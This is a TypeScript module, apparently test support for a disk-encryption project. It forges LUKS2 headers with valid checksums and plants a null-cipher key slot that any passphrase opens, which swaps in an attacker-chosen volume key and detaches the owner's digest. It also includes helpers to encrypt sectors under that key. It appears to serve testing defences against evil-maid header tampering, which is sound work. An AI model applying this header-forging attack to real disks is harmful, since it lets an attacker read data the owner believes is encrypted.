import { createCipheriv, createHash, pbkdf2Sync, randomBytes } from "node:crypto";
import { closeSync, fsyncSync, openSync, readSync, writeSync } from "node:fs";

// What somebody does who can write a disk and knows no key: nothing of our packages is in it.

/** A LUKS2 header's JSON area, as an attacker edits it. */
export interface Metadata {
  readonly keyslots: Record<string, Record<string, unknown>>;
  readonly segments: Record<string, Record<string, unknown>>;
  readonly digests: Record<string, Record<string, unknown>>;
}

const binaryBytes = 4096;

/** Changes both copies of a LUKS2 header, with valid checksums. */
export function forge(device: string, change: (metadata: Metadata) => void, uuid?: string): void {
  const changeText = (text: string) => {
    const metadata = JSON.parse(text) as Metadata;
    change(metadata);
    return JSON.stringify(metadata);
  };
  forgeText(device, changeText, uuid);
}

/** As {@link forge}, for what `JSON.stringify` cannot say. */
export function forgeText(device: string, change: (json: string) => string, uuid?: string): void {
  const size = Number(readAt(device, 0, binaryBytes).readBigUInt64BE(8));
  for (const offset of [0, size]) {
    const copy = readAt(device, offset, size);
    const json = copy.subarray(binaryBytes);
    const text = change(json.toString("utf8", 0, json.indexOf(0)));
    json.fill(0);
    json.write(text);
    if (uuid !== undefined) copy.fill(0, 168, 208).write(uuid, 168);
    copy.fill(0, 448, 512);
    createHash("sha256").update(copy).digest().copy(copy, 448);
    writeAt(device, offset, copy);
  }
}

/** The JSON text of the primary copy. */
export function headerText(device: string): string {
  const size = Number(readAt(device, 0, binaryBytes).readBigUInt64BE(8));
  const json = readAt(device, binaryBytes, size - binaryBytes);
  return json.toString("utf8", 0, json.indexOf(0));
}

/** Of the attacker: an AES-256-XTS key. */
export const attackersKey = Buffer.concat([
  createHash("sha256").update("one half").digest(),
  createHash("sha256").update("other half").digest(),
]);

/**
 * Adds a second key slot, which is tried first and in the clear, so that every passphrase opens it; its volume key is
 * the attacker's, and the digest over the data with it. The owner's slot and digest stay, over nothing.
 */
export function addSlotInTheClear(device: string): void {
  const stripes = 4000;
  const offset = 8 << 20;
  // The splitter's last stripe is the key, whatever the others are, if they are diffused before.
  writeAt(device, offset, split(attackersKey, stripes));
  const salt = randomBytes(32);
  forge(device, (metadata) => {
    metadata.keyslots["1"] = {
      type: "luks2",
      key_size: attackersKey.length,
      priority: 2,
      af: { type: "luks1", stripes, hash: "sha256" },
      area: {
        type: "raw",
        offset: String(offset),
        size: String(Math.ceil((attackersKey.length * stripes) / 4096) * 4096),
        encryption: "cipher_null-ecb",
        key_size: 16,
      },
      kdf: {
        type: "pbkdf2",
        hash: "sha256",
        iterations: 1000,
        salt: randomBytes(32).toString("base64"),
      },
    };
    const owners = metadata.digests["0"] as Record<string, unknown>;
    owners["segments"] = [];
    metadata.digests["1"] = {
      type: "pbkdf2",
      keyslots: ["1"],
      segments: ["0"],
      hash: "sha256",
      iterations: 1000,
      salt: salt.toString("base64"),
      digest: pbkdf2Sync(attackersKey, salt, 1000, 32, "sha256").toString("base64"),
    };
  });
}

/** Sectors of a disk as they are if the attacker's key encrypts them: sector numbers count from the data's beginning. */
export function withAttackersKey(plaintext: Uint8Array): Buffer {
  const sectors: Buffer[] = [];
  for (let offset = 0; offset < plaintext.length; offset += 512) {
    const iv = Buffer.alloc(16);
    iv.writeBigUInt64LE(BigInt(offset / 512));
    const cipher = createCipheriv("aes-256-xts", attackersKey, iv).setAutoPadding(false);
    sectors.push(cipher.update(plaintext.subarray(offset, offset + 512)));
  }
  return Buffer.concat(sectors);
}

export function readAt(device: string, offset: number, length: number): Buffer {
  const file = openSync(device, "r");
  const bytes = Buffer.alloc(length);
  readSync(file, bytes, 0, length, offset);
  closeSync(file);
  return bytes;
}

/** It has reached the disk when this returns. */
export function writeAt(device: string, offset: number, bytes: Uint8Array): void {
  const file = openSync(device, "r+");
  writeSync(file, bytes, 0, bytes.length, offset);
  fsyncSync(file);
  closeSync(file);
}

/** LUKS1 On-Disk Format 1.2.3, section 2.4: AFsplit. */
function split(key: Buffer, stripes: number): Buffer {
  const parts: Buffer[] = [];
  let block = Buffer.alloc(key.length);
  for (let stripe = 1; stripe < stripes; stripe++) {
    const random = randomBytes(key.length);
    parts.push(random);
    block = diffuse(xor(block, random));
  }
  parts.push(xor(block, key));
  return Buffer.concat(parts);
}

function diffuse(block: Buffer): Buffer<ArrayBuffer> {
  const parts: Buffer[] = [];
  for (let offset = 0, index = 0; offset < block.length; offset += 32, index++) {
    const number = Buffer.alloc(4);
    number.writeUInt32BE(index);
    parts.push(
      createHash("sha256")
        .update(number)
        .update(block.subarray(offset, offset + 32))
        .digest(),
    );
  }
  return Buffer.from(Buffer.concat(parts));
}

function xor(one: Uint8Array, other: Uint8Array): Buffer<ArrayBuffer> {
  return Buffer.from(one.map((byte, index) => byte ^ (other[index] ?? 0)));
}
